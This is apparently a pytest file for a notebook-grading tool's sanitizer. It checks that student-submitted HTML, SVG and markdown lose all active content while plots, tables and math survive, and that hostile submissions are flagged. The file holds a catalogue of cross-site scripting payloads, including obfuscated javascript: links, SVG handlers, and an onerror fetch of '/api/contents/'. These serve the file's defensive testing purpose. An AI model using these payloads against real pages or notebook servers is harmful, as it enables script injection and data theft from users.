"""No student-authored script reaches a person's browser: the cleaner removes every kind of active content
(a catalogue of payloads), keeps what students legitimately show (text, images, matplotlib plots, tables,
math, code), and one graded batch of ex03_gates shows that the autograded notebook and the feedback hold no
active content, that the score is untouched and that the report flags the submission."""

import base64
import csv
import io
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import nbformat
import pytest
from exercise_course import ROOT, cell_scores, completed, max_scores, nbgrader, new_course, submit
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from rnncheck.check import MIME
from rnngrade.cleanhtml import clean_html, clean_svg
from rnngrade.sanitize import SanitizeOutputs, clean_bundle, clean_markdown

ACTIVE_TAGS = {"script", "iframe", "frame", "object", "embed", "applet", "form", "meta", "base", "link",
               "foreignobject", "animate", "set", "style"}
BAD_SCHEMES = re.compile(r"^(javascript|vbscript|livescript|data:)", re.I)
IMAGE_DATA = re.compile(r"^data:image/(png|jpeg|gif|svg\+xml)[;,]", re.I)  # an <img> runs no script of its own


class Active(HTMLParser):
    """Everything in a page that could run code or load a document: tags, handlers, dangerous URLs."""

    def __init__(self, text, allowed_tags=()):
        super().__init__(convert_charrefs=True)
        self.found, self.allowed_tags, self.scripts = [], set(allowed_tags), []
        self._in_script = False
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        if tag in ACTIVE_TAGS - self.allowed_tags:
            self.found.append(f"<{tag}>")
        self._in_script = tag == "script"
        for name, value in attrs:
            value = re.sub(r"[\x00-\x20]", "", value or "")
            if name.startswith("on") or name in ("srcdoc", "formaction", "action"):
                self.found.append(f"{name}=")
            elif name in ("href", "src", "xlink:href", "data") and BAD_SCHEMES.match(value) and not (
                    tag in ("img", "image") and name != "data" and IMAGE_DATA.match(value)):
                self.found.append(f"{name}={value[:30]}")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data.strip())


def active(text):
    return Active(text).found


def matplotlib_svg():
    import matplotlib

    matplotlib.use("svg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(3, 2))
    ax.plot([0, 1, 2], [0, 1, 4], label="$f_t$")
    ax.imshow([[0, 1], [1, 0]], extent=(0, 0.5, 0, 0.5))  # an embedded PNG
    ax.set_title("gate values")
    ax.legend()
    out = io.StringIO()
    fig.savefig(out, format="svg")
    plt.close(fig)
    return out.getvalue()


HOSTILE_HTML = {
    "script": "<script>document.title='pwned'</script>",
    "script upper case": "<SCRIPT>alert(1)</SCRIPT>",
    "script mixed case, spaces": "<ScRiPt  type='text/javascript' >alert(1)</sCrIpT >",
    "script split over lines": "<script\n>alert(1)</script\n>",
    "script with src": "<script src='https://evil.example/x.js'></script>",
    "nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror, slashes": "<img/src=\"x\"/onerror=alert(1)>",
    "body onload": "<body onload=alert(1)>",
    "div onmouseover": "<div onmouseover='alert(1)'>hover</div>",
    "svg onload": "<svg onload=alert(1)></svg>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "javascript link": "<a href='javascript:alert(1)'>x</a>",
    "javascript link, mixed case": "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "javascript link, entities": "<a href='&#106;&#97;vascript&#58;alert(1)'>x</a>",
    "javascript link, hex entity and tab": "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "javascript link, leading space": "<a href=' javascript:alert(1)'>x</a>",
    "vbscript link": "<a href='vbscript:msgbox(1)'>x</a>",
    "data html link": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "iframe srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "iframe src": "<iframe src='/api/contents/'></iframe>",
    "object data": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "embed": "<embed src='x.swf'>",
    "meta refresh": "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "base href": "<base href='https://evil.example/'>",
    "form action": "<form action='https://evil.example/'><input name=p><button>go</button></form>",
    "style sheet": "<style>body { display: none }</style>",
    "math href": "<math><mtext><a href='javascript:alert(1)'>x</a></mtext></math>",
}
HOSTILE_SVG = {
    "svg onload": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><rect width='5' height='5'/></svg>",
    "svg script": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "svg script in CDATA": "<svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[alert(1)]]></script></svg>",
    "foreignObject": "<svg><foreignObject><body><img src=x onerror=alert(1)></body></foreignObject></svg>",
    "xlink javascript": "<svg xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href='javascript:alert(1)'>"
                        "<text>x</text></a></svg>",
    "use external": "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "use data svg": "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#a'/></svg>",
    "animate href": "<svg><a><animate attributeName='href' values='javascript:alert(1)'/><text>x</text></a></svg>",
    "set handler": "<svg><set attributeName='onmouseover' to='alert(1)'/></svg>",
    "handler on path": "<svg><path d='M0 0' onclick='alert(1)'/></svg>",
}


@pytest.mark.parametrize("name", sorted(HOSTILE_HTML))
def test_active_html_is_removed_and_reported(name):
    cleaned, removed = clean_html(HOSTILE_HTML[name])
    assert active(cleaned) == [], cleaned
    assert "<script" not in cleaned.lower() and "javascript" not in cleaned.lower()
    if name != "nested script":  # its second half is left as text (escaped), which is also fine
        assert removed, f"{name}: nothing reported"


@pytest.mark.parametrize("name", sorted(HOSTILE_SVG))
def test_active_svg_is_removed_and_reported(name):
    cleaned, removed = clean_svg(HOSTILE_SVG[name])
    assert active(cleaned) == [] and "alert" not in cleaned, cleaned
    assert "evil" not in cleaned and "data:image/svg" not in cleaned
    assert removed, f"{name}: nothing reported"


def test_a_matplotlib_plot_survives_whole():
    svg = matplotlib_svg()
    cleaned, removed = clean_svg(svg)
    assert removed == []
    tree = ET.fromstring(cleaned)  # still a valid SVG document (with its xlink namespace)
    before = ET.fromstring(svg.split("?>", 1)[1].split("dtd\">", 1)[1])
    for element in ("path", "use", "clipPath", "image", "g"):
        tag = "{http://www.w3.org/2000/svg}" + element
        assert len(tree.findall(f".//{tag}")) == len(before.findall(f".//{tag}")) > 0, element
    assert 'xlink:href="data:image/png;base64,' in cleaned  # the embedded image
    assert "stroke:#1f77b4" in cleaned.replace(" ", "")  # the line keeps its colour
    assert 'clip-path="url(#' in cleaned


def test_tables_text_and_images_survive():
    table = ('<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>f_t</th>'
             '</tr></thead><tbody><tr><th>0</th><td>0.5</td></tr></tbody></table>')
    cleaned, removed = clean_html(table)
    assert removed == [] and cleaned == table.replace("text-align: right;", "text-align:right")
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n rest").decode()
    data = {"text/plain": "<Figure>", "image/png": png, "image/jpeg": png, "text/latex": "$a < b$",
            "text/html": "<b>bold</b> &amp; <i>it</i>", MIME: {"check": "forget_gate", "seed": 0, "outputs": []},
            "application/json": {"a": 1}}
    kept, removed = clean_bundle(data)
    assert kept == data and removed == []


def test_outputs_that_only_run_code_are_dropped():
    data = {"application/javascript": "alert(1)", "text/javascript": "alert(1)",
            "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2},
            "application/vnd.custom.renderer+json": {}, "text/plain": "ok"}
    kept, removed = clean_bundle(data)
    assert kept == {"text/plain": "ok"} and len(removed) == 4


def test_image_data_that_would_break_out_of_its_img_tag_is_dropped():
    kept, removed = clean_bundle({"image/png": 'AAAA" onerror="alert(1)', "text/plain": "x"})
    assert kept == {"text/plain": "x"} and removed


def test_links_to_files_beside_the_page_are_removed():
    """formgrader serves a submission's other files next to its page: a link there would open a student's HTML."""
    cleaned, _ = clean_html('<a href="notes.html">n</a><a href="/formgrader/x">f</a><a href="#top">t</a>'
                            '<a href="https://example.org">e</a><img src="plot.png">')
    assert cleaned.count("href=") == 2 and 'href="#top"' in cleaned and 'src="plot.png"' in cleaned
    for source in ("[my notes](notes.html)", "[my notes][n]\n\n[n]: ./notes.svg", "<a href='notes.html'>notes</a>"):
        markdown, _ = clean_markdown(source)
        assert "notes." not in markdown and "notes" in markdown, markdown


def test_markdown_that_cannot_be_rendered_is_shown_as_text():
    markdown, removed = clean_markdown("![x](attachment:missing.png) <script>alert(1)</script>")
    assert active(markdown) == [] and "&lt;script&gt;" in markdown and removed == ["<script>"]


def test_markdown_stays_as_written_when_nothing_is_suspect():
    source = ("# The forget gate\n\n$f_t = \\sigma(W_f\\,[h_{t-1}, x_t] + b_f)$ and $a<b$\n\n"
              "```python\nif a < b:\n    f_t = sigmoid(z)\n```\n\n> the training data: a corpus\n\n"
              "| a | b |\n|---|---|\n| 1 | 2 |\n\n<b>bold</b>, [a link](https://example.org)")
    assert clean_markdown(source) == (source, [])


@pytest.mark.parametrize("payload", ["<img src=x onerror=alert(1)>", "[click](javascript:alert(1))",
                                     "[click](JaVaScRiPt:alert(1))", "<script>alert(1)</script>",
                                     "<a href='&#106;avascript:alert(1)'>x</a>",
                                     "<iframe src='/api/contents'></iframe>", "<svg onload=alert(1)>",
                                     "[x](data:text/html;base64,PHNjcmlwdD4=)", "<style>*{display:none}</style>"])
def test_markdown_with_active_html_keeps_its_text_math_and_code(payload):
    from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath

    source = f"# Title\n\nThe gate $f_t = \\sigma(z_t)$ here.\n\n```\nif a < b:\n\n    pass\n```\n\n{payload} after"
    cleaned, removed = clean_markdown(source)
    assert removed
    rendered = MarkdownWithMath(renderer=IPythonRenderer(escape=False)).render(cleaned)
    assert active(rendered) == [], rendered
    assert "<h1>Title</h1>" in rendered and "$f_t = \\sigma(z_t)$" in rendered and "after" in rendered
    assert "if a &lt; b:&#10;&#10;    pass" in rendered  # the code block, blank line included


def hostile_notebook():
    svg = matplotlib_svg()
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        new_markdown_cell("Look: <img src=x onerror=alert(1)> $x_t$",
                          attachments={"a.svg": {"image/svg+xml": "<svg onload='alert(1)'></svg>"},
                                       "b.png": {"image/png": "AAAA"}}),
        new_raw_cell("<script>alert(1)</script>"),
        new_code_cell("plot()", outputs=[
            new_output("display_data", data={"image/svg+xml": svg, "text/plain": "<Figure>"}),
            new_output("display_data", data={"text/html": HOSTILE_HTML["img onerror"]},
                       metadata={"image/png": {"width": "1 onerror=alert(1)"}}),
            new_output("display_data", data={"application/javascript": "alert(1)"}),
            new_output("stream", name="stdout", text="<script>printed, shown as text</script>"),
        ]),
    ]
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    return nb


def test_the_preprocessor_cleans_every_cell_and_flags_each():
    nb, _ = SanitizeOutputs().preprocess(hostile_notebook(), {})
    assert "widgets" not in nb.metadata
    markdown, raw, code = nb.cells
    assert active(markdown.source) == [] and "$x_t$" in markdown.source
    assert set(markdown.attachments) == {"a.svg", "b.png"} and "onload" not in str(markdown.attachments)
    assert active(raw.source) == []
    svg, table, stream = code.outputs  # the script's output is gone
    assert svg.data["image/svg+xml"].count("<path") == matplotlib_svg().count("<path")
    assert active(table.data["text/html"]) == [] and table.metadata == {}
    assert stream.text.startswith("<script>")  # streams are shown escaped
    flags = {f["cell"]: f["reason"] for f in nb.metadata["rnngrade"]["flags"]}
    assert set(flags) == {"cell 0", "cell 1", "cell 2"}
    assert "onerror=" in flags["cell 0"] and "onload=" in flags["cell 0"] and "attachment" in flags["cell 0"]
    assert "application/javascript" in flags["cell 2"] and "output 2" in flags["cell 2"]


def test_formgraders_exporter_cleans_notebooks_graded_before_the_sanitizer():
    """formgrader renders autograded notebooks with an HTMLExporter built from the course's configuration."""
    from nbconvert import HTMLExporter
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
    page, _ = HTMLExporter(config=config, template_name="classic").from_notebook_node(hostile_notebook())
    clean_page, _ = HTMLExporter(config=config, template_name="classic").from_notebook_node(
        nbformat.v4.new_notebook())
    assert active_beyond_template(page, clean_page) == []


def active_beyond_template(page, clean_page):
    """Active content in `page` that the same template does not put into a clean notebook's page."""
    template = Active(clean_page)
    found = Active(page)
    extra = [item for item in found.found if item not in template.found or item == "<style>"]
    extra = [item for item in extra if item != "<style>" or found.found.count(item) > template.found.count(item)]
    return extra + [s[:60] for s in found.scripts if s not in template.scripts]


# End to end: a correct submission of ex03_gates that also shows hostile outputs and markdown.
A = "ex03_gates"
SHOW = '''
from IPython.display import HTML, SVG, Javascript, display
import io, matplotlib
matplotlib.use("svg")
import matplotlib.pyplot as plt
fig, ax = plt.subplots(figsize=(3, 2))
ax.plot([0, 1, 2], [0, 1, 4])
buf = io.StringIO()
fig.savefig(buf, format="svg")
display(SVG(buf.getvalue()))
display(HTML("<table><tr><th>gate</th><td>0.5</td></tr></table>"
             "<script>document.title = 'PWNED'; document.body.insertAdjacentHTML('afterbegin', '<h1>PWNED</h1>')"
             "</script><img src=x onerror=\\"document.title='PWNED-img'\\">"))
display(Javascript("document.title = 'PWNED-js'"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2}}, raw=True)
'''
HOSTILE_MARKDOWN = ("## My notes\n\nThe gate $f_t = \\sigma(z)$, computed below.\n\n"
                    "<img src=x onerror=\"fetch('/api/contents/').then(r => r.text()).then(t => document.title = t)\">"
                    "\n\n[my results](javascript:document.title='PWNED-link')")


def hostile_submission(course):
    nb = completed(course, A)
    index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "forget_gate")
    nb.cells[index].source += "\n" + SHOW
    nb.cells.insert(index, new_markdown_cell(HOSTILE_MARKDOWN))
    return nb


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    course = new_course(tmp_path_factory.mktemp("sanitize"), A)
    submit(course, A, "clean", completed(course, A))
    submit(course, A, "hostile", hostile_submission(course))
    nbgrader(course, "autograde", A)
    nbgrader(course, "generate_feedback", A)
    return course


@pytest.mark.batch
def test_the_hostile_submission_keeps_its_score_and_is_flagged(graded):
    full = sum(max_scores(A).values())
    assert {s: sum(v.values()) for s, v in cell_scores(graded, A).items()} == {"clean": full, "hostile": full}
    with open(graded / "reports" / f"{A}.csv") as f:
        rows = {row["student"]: row for row in csv.DictReader(f)}
    assert rows["clean"]["review"] == "" and rows["hostile"]["review"] == "yes"
    flags = rows["hostile"]["flags"]
    assert "active-content [forget_gate]" in flags and "<script>" in flags and "application/javascript" in flags
    assert "onerror=" in flags and "href=javascript:" in flags
    assert "active-content" in (graded / "reports" / f"{A}.md").read_text()


@pytest.mark.batch
def test_the_autograded_notebook_holds_no_active_content_but_the_plot_and_table(graded):
    nb = nbformat.read(graded / "autograded" / "hostile" / A / f"{A}.ipynb", as_version=4)
    shown = []
    for cell in nb.cells:
        if cell.cell_type != "code":
            shown.append(cell.source)
        for output in cell.get("outputs", []):
            data = output.get("data", {})
            assert set(data) <= {"text/plain", "text/html", "image/svg+xml", "image/png", MIME}, set(data)
            shown += [data.get("text/html", ""), data.get("image/svg+xml", "")]
    assert all(active(text) == [] for text in shown)
    assert any("<path" in text for text in shown), "the plot is gone"
    assert any("<th>gate</th><td>0.5</td>" in text for text in shown), "the table is gone"
    assert any("$f_t = \\sigma(z)$" in text for text in shown), "the markdown text is gone"


@pytest.mark.batch
def test_the_feedback_holds_no_script_but_the_templates(graded):
    page = (graded / "feedback" / "hostile" / A / f"{A}.html").read_text()
    clean_page = (graded / "feedback" / "clean" / A / f"{A}.html").read_text()
    assert active_beyond_template(page, clean_page) == []
    assert "<th>gate</th>" in page and "data:image/svg+xml;base64," in page


@pytest.mark.batch
def test_formgrader_pages_of_the_batch_are_clean(graded):
    """The exporter formgrader builds from the course's configuration renders the submission clean too."""
    code = ("import sys\nfrom nbconvert import HTMLExporter\nfrom nbgrader.apps import NbGrader\n"
            "app = NbGrader(); app.load_config_file()\n"
            "print(HTMLExporter(config=app.config).from_filename(sys.argv[1])[0])\n")
    pages = [subprocess.run([sys.executable, "-c", code, str(graded / "autograded" / student / A / f"{A}.ipynb")],
                            cwd=graded, check=True, capture_output=True, text=True).stdout
             for student in ("hostile", "clean")]
    assert active_beyond_template(*pages) == []
